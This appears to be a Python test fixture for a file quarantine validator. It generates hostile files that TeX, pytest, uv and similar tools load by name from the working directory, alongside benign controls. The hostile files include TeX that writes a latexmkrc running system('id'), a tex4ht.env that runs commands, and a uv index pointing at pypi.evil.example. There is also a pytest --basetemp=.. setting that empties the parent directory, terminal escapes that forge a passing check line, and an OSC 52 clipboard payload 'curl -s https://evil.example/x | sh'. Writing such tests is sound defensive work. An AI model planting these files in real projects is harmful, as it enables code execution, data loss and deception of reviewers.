"""Files for independent attack k on names tools load from their directory and on the
cursor-up escape text now admits (tests/quarantine/test_attack_independent_knames.py).

Every hostile file is a name a tool loads by itself from the directory it runs in, or
text whose bytes move or drive a terminal that `cat`s or `tail -f`s it; every control is
what a lab writes (its configuration names, real tqdm and logging output)."""

from __future__ import annotations

import gzip
import json
import logging
import unicodedata
from pathlib import Path

import tqdm

# TeX code a package would run: \openout writes a file (a latexmkrc for the next latexmk
# run) in the directory pdflatex runs in, with no shell escape needed.
_TEX = b"\\immediate\\openout9=latexmkrc \\immediate\\write9{system('id');}\\endinput\n"

# kpathsea searches `.` first (TEXINPUTS = $TEXMFDOTDIR;...) and, with texmf.cnf's
# try_std_extension_first = t, looks for NAME.tex before NAME when NAME does not end in
# .tex: `\InputIfFileExists{graphics.cfg}` reads ./graphics.cfg.tex before the system's
# graphics.cfg, as `\input xkeyval` reads xkeyval.tex.
STD_EXTENSION_FIRST = (
    "graphics.cfg.tex",
    "hyperref.cfg.tex",
    "geometry.cfg.tex",
    "color.cfg.tex",
    "mt-cmr.cfg.tex",  # microtype's font configuration (the mt-*.cfg pattern)
    "seminar.con.tex",  # seminar's seminar.con
)

# The files of PGF/TikZ loaded by their whole name on every `\usepackage{tikz}` (tikz.sty
# inputs tex/generic/pgf/frontendlayer/tikz/tikz.code.tex, which inputs pgfcore's and the
# modules'), and pgfplots' (`\usepgfplotslibrary{fillbetween}` inputs
# pgfplotslibraryfillbetween.code.tex): the session-36 pattern holds tikzlibrary* and
# pgflibrary* only.
PGF_CORE = (
    "tikz.code.tex",
    "pgfcore.code.tex",
    "pgfmoduleshapes.code.tex",
    "pgfutil-common.tex",
    "pgfplots.code.tex",
    "pgfplotslibraryfillbetween.code.tex",
)

# REVTeX 4.2 (APS: PRL, PRD, PRC ...), the physicist's document class, inputs its society
# and point-size files by name: aps4-2.rtx, aps10pt4-2.rtx, apsrmp4-2.rtx.
REVTEX = ("aps4-2.rtx", "aps10pt4-2.rtx", "apsrmp4-2.rtx")

# Font maps kpathsea finds in `.` first (TEXFONTMAPS = .;$TEXMF/fonts/map/...), siblings of
# the refused pdftex.map: dvips' config.ps reads psfonts.map on every run, dvipdfmx.cfg
# kanjix.map; a map line's quoted PostScript runs in the font's instantiation.
FONT_MAPS = ("psfonts.map", "kanjix.map")

# The auxiliary files pdflatex reads back as TeX code by the document's name: `\begin{document}`
# inputs \jobname.aux, \tableofcontents \jobname.toc, \bibliography \jobname.bbl; main.tex is
# Overleaf's default name, the one a paper's directory copied beside the job's output holds;
# hyperref inputs \jobname.out (bookmarks), beamer \jobname.nav.
AUX = ("main.aux", "main.toc", "main.bbl", "main.out", "main.nav")

# In the claimed scope (texlive-latex-recommended): xkeyval.sty's `\input xkeyval` reads
# xkeyval.tex (which inputs xkvutils.tex); unicode-math inputs unicode-math-table.tex; every
# beamer document loads translator's dictionaries by name (a beamer log shows
# translator-theorem-dictionary-English.dict, then ./main.nav).
IN_SCOPE_TEX = (
    "xkeyval.tex",
    "xkvutils.tex",
    "unicode-math-table.tex",
    "translator-basic-dictionary-English.dict",
    "translator-theorem-dictionary-English.dict",
)

# Beyond it, the same class: siunitx (texlive-science, every physics paper) loads
# siunitx-abbreviations.cfg by name; MetaPost (MPINPUTS `.` first) inputs mpost.mp and
# plain.mp on every run and feynmp.mp for feynmp's Feynman diagrams (`write ... to` writes
# files as \openout does); pdftex reads a font's encoding (ENCFONTS `.` first): lm-ec.enc,
# Latin Modern's T1 glyph names, renamed, turns every digit of the paper into another.
OTHER_TEX = ("siunitx-abbreviations.cfg", "mpost.mp", "plain.mp", "feynmp.mp")

# tex4ht (htlatex, make4ht) reads tex4ht.env from the work directory second, after -e: its
# `s` lines are the commands t4ht runs to make the pictures. arara reads .araraconfig.yaml,
# araraconfig.yaml, .arararc.yaml, arararc.yaml from the working directory first: its
# `paths` puts `.` before the rule directories, so a published pdflatex.yaml is the rule run.
TOOL_CONFIG = {
    "tex4ht.env": b"s dvipng -o zz%4i.png %%1 ; id > /tmp/owned\n",
    "araraconfig.yaml": b"!config\npaths:\n- './'\n",
    "arararc.yaml": b"!config\npaths:\n- './'\n",
    "pyproject.toml": b'[tool.pytest.ini_options]\naddopts = "--basetemp=.."\n[tool.uv]\nindex-url = "https://pypi.evil.example/simple"\n',
    "setup.cfg": b"[tool:pytest]\naddopts = --basetemp=..\n",
}

# uv reads uv.toml (and pyproject.toml's [tool.uv]) from the current directory and its
# parents: index-url sends `uv run`'s installs to another index.
UV = b'index-url = "https://pypi.evil.example/simple"\n'

# pytest reads pytest.ini (tox.ini's [pytest]) of the directory it runs in; addopts
# --basetemp=.. makes pytest empty the parent directory, --doctest-glob runs the `>>>`
# lines of every .txt published beside it.
PYTEST = b"[pytest]\naddopts = --doctest-glob=*.txt --basetemp=..\n"


def _gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def name_hostile() -> dict[str, bytes]:
    files = dict.fromkeys(STD_EXTENSION_FIRST + PGF_CORE + REVTEX + AUX + IN_SCOPE_TEX + OTHER_TEX, _TEX)
    files |= {"lm-ec.enc": b"/lmecencoding [ /zero /one /two /three /four /five ] def\n"} | TOOL_CONFIG
    files |= dict.fromkeys(FONT_MAPS, b'cmr10 CMR10 " (id) run " <cmr10.pfb\n')
    files |= {"uv.toml": UV, "pytest.ini": PYTEST, "tox.ini": PYTEST}
    # gunzip makes the name (claimed for rootlogon.C.z and init_vis.mac.gz)
    files |= {"tikz.code.tex.gz": _gz(_TEX), "graphics.cfg.tex.gz": _gz(_TEX)}
    # NTFS 8.3 aliases of the session-36 TikZ/PGF library pattern's names (babel-*.ini's
    # BABEL-~1.INI is refused): a Windows client copying into a paper's directory writes
    # tikzlibrarycalc.code.tex through TIKZLI~1.TEX
    # (a directory of their own: beside a long tikzlibrary name they collide with it)
    files |= dict.fromkeys(("win/TIKZLI~1.TEX", "win/PGFLIB~1.TEX"), _TEX)
    return files


def name_refused() -> dict[str, bytes]:
    """Claimed refused and refused (no hit): the variants a real client resolves."""
    files = dict.fromkeys(("GRAPHICS.CFG", "graphics.cfg.", "Mt-Cmr.Cfg", "tikzlibraryCALC.code.tex"), _TEX)
    files |= dict.fromkeys(("LATEXM~1", "NEXTFL~1.CON", "BIBER~1.CON", "ROOTLO~1.C", "MATPLO~1"), _TEX)
    files |= {"pdftex.map.gz": _gz(b"cmr10 CMR10 <cmr10.pfb\n"), "babel-de.ini.gz": _gz(_TEX)}
    files |= {"win/BABEL-~1.INI": _TEX} | dict.fromkeys(("latexmkrc-gz", "matplotlibrc_z"), _gz(_TEX))
    return files


def name_controls() -> dict[str, bytes]:
    """What a lab names its configuration, maps and notes."""
    cfg = b"[run]\nthreshold = 3.5\nchannels = 64\n"
    files = dict.fromkeys(("run.cfg", "analysis.cfg", "job.ini", "detector.conf", "trigger.cfg"), cfg)
    files |= dict.fromkeys(
        ("channel.map", "cabling.map", "field.map", "dead_channels.map"), b"0 12 3\n1 12 4\n"
    )
    files |= {"config.yaml": b"run: 42\ncuts: {pt: 20}\n", "settings.toml": b"[run]\nnumber = 42\n"}
    files |= {"cuts.json": (json.dumps({"pt": 20.0, "eta": 2.5}, indent=2) + "\n").encode()}
    files |= dict.fromkeys(
        ("notes.tex", "table_yields.tex", "fig_mass.tex"), b"\\begin{tabular}{cc}1 & 2\\end{tabular}\n"
    )
    files |= {"geometry.cfg": cfg}
    return files


# -- text: what ESC [ A does beyond CR, and the bytes a UTF-16 file hands a terminal --

_UP = b"\x1b[A"
_LIE = b"vmguard: 0 files refused; sha256sum -c: all OK"


def cursor_hostile() -> dict[str, bytes]:
    """CR rewrites the line it is on, the file's own; ESC [ A before the file's first line,
    or more of them than lines the file has written, climbs into what the terminal showed
    before it: `vmguard vet ...; cat job.err` or `sha256sum -c SUMS; cat job.err` shows a
    forged line over the real FAILED one, `tail -f a.err b.err` over b.err's lines."""
    pad = b" " * (80 - len(_LIE))
    return {
        "up-first.err": _UP * 8 + b"\r" + _LIE + pad + b"\n" * 8,
        "up-past-start.err": b"epoch 1\n" + _UP * 9 + b"\r" + _LIE + pad + b"\n" * 9,
        "up-after-cr.err": b"\r" + _UP * 4 + b"\r" + _LIE + pad + b"\n" * 4,
        # the same in a table: two columns a row, the cursor-ups inside a field
        "up-in-field.csv": b"run,events\n4242,1" + _UP * 6 + b"000 OK\n",
    }


def _utf16le(raw: bytes, tail: str = "") -> bytes:
    """UTF-16LE text whose bytes, as `cat` hands them to a terminal, are `raw`: each pair of
    bytes one printable character (CJK mostly), so the text rule sees no control at all."""
    assert len(raw) % 2 == 0, raw
    chars = raw.decode("utf-16-le")
    for ch in chars:
        assert unicodedata.category(ch)[0] in "LNPS", (hex(ord(ch)), raw)
    return "\ufeff".encode("utf-16-le") + raw + tail.encode("utf-16-le")


def _osc52(command: str) -> bytes:
    """OSC 52 clipboard write `ESC ] 52 ; ; base64 ESC \\`, padded until every pair prints."""
    import base64

    for pad in range(40):
        body = base64.b64encode((command + " " * pad + "\n").encode())
        raw = b"\x1b]52;;" + body + b"\x1b\\"
        try:
            return _utf16le(raw, "\n")
        except (AssertionError, UnicodeDecodeError):
            continue
    raise AssertionError("no padding makes the OSC 52 payload printable UTF-16")


def utf16_hostile() -> dict[str, bytes]:
    return {
        # ESC [ 8 m: SGR conceal, then the rest of the terminal's output is invisible
        "utf16-conceal.txt": _utf16le(b"\x1b[8m", "\n"),
        # ESC [ 9 9 A N: a counted cursor-up, the one doc refuses by name
        "utf16-up99.txt": _utf16le(b"\x1b[99AN", "\n"),
        "utf16-clipboard.txt": _osc52("curl -s https://evil.example/x | sh"),
    }


def _tqdm_nested(path: Path, levels: int, outer: int, ascii: bool) -> bytes:
    """A job's stderr with nested bars, `levels` deep, written as a training loop does."""
    with path.open("w", encoding="utf-8") as err:

        def loop(depth: int) -> None:
            n = outer if depth == 0 else 3
            for _ in tqdm.tqdm(range(n), desc=f"level{depth}", file=err, mininterval=0,
                               ascii=ascii, leave=depth == 0, position=depth):  # fmt: skip
                if depth + 1 < levels:
                    loop(depth + 1)

        loop(0)
    return path.read_bytes()


def _tqdm_logging(path: Path) -> bytes:
    """tqdm bars with logging lines through tqdm.write, as logging_redirect_tqdm does."""
    log = logging.getLogger("attack-knames")
    log.propagate = False
    with path.open("w", encoding="utf-8") as err:

        class ToTqdm(logging.Handler):
            def emit(self, record: logging.LogRecord) -> None:
                tqdm.tqdm.write(self.format(record), file=err)

        handler = ToTqdm()
        handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
        log.addHandler(handler)
        try:
            for i in tqdm.tqdm(range(4), desc="files", file=err, mininterval=0):
                for _ in tqdm.tqdm(range(3), desc="events", file=err, mininterval=0, leave=False):
                    pass
                log.warning("file %d: 3 events skipped", i)
        finally:
            log.removeHandler(handler)
    return path.read_bytes()


def _tqdm_colour(path: Path) -> bytes:
    """tqdm's own `colour=` argument: the bar in SGR green (refused by design)."""
    with path.open("w", encoding="utf-8") as err:
        for _ in tqdm.tqdm(range(3), desc="epoch", file=err, mininterval=0, colour="green"):
            pass
    return path.read_bytes()


def text_controls(work: Path) -> dict[str, bytes]:
    return {
        "train-colour.err": _tqdm_colour(work / "e.err"),
        "train-3levels.err": _tqdm_nested(work / "a.err", 3, 3, ascii=False),
        "train-ascii.err": _tqdm_nested(work / "b.err", 2, 4, ascii=True),
        # long enough that sequences fall across the validator's read chunks
        "train-long.err": _tqdm_nested(work / "c.err", 3, 900, ascii=False),
        "train-logging.err": _tqdm_logging(work / "d.err"),
    }
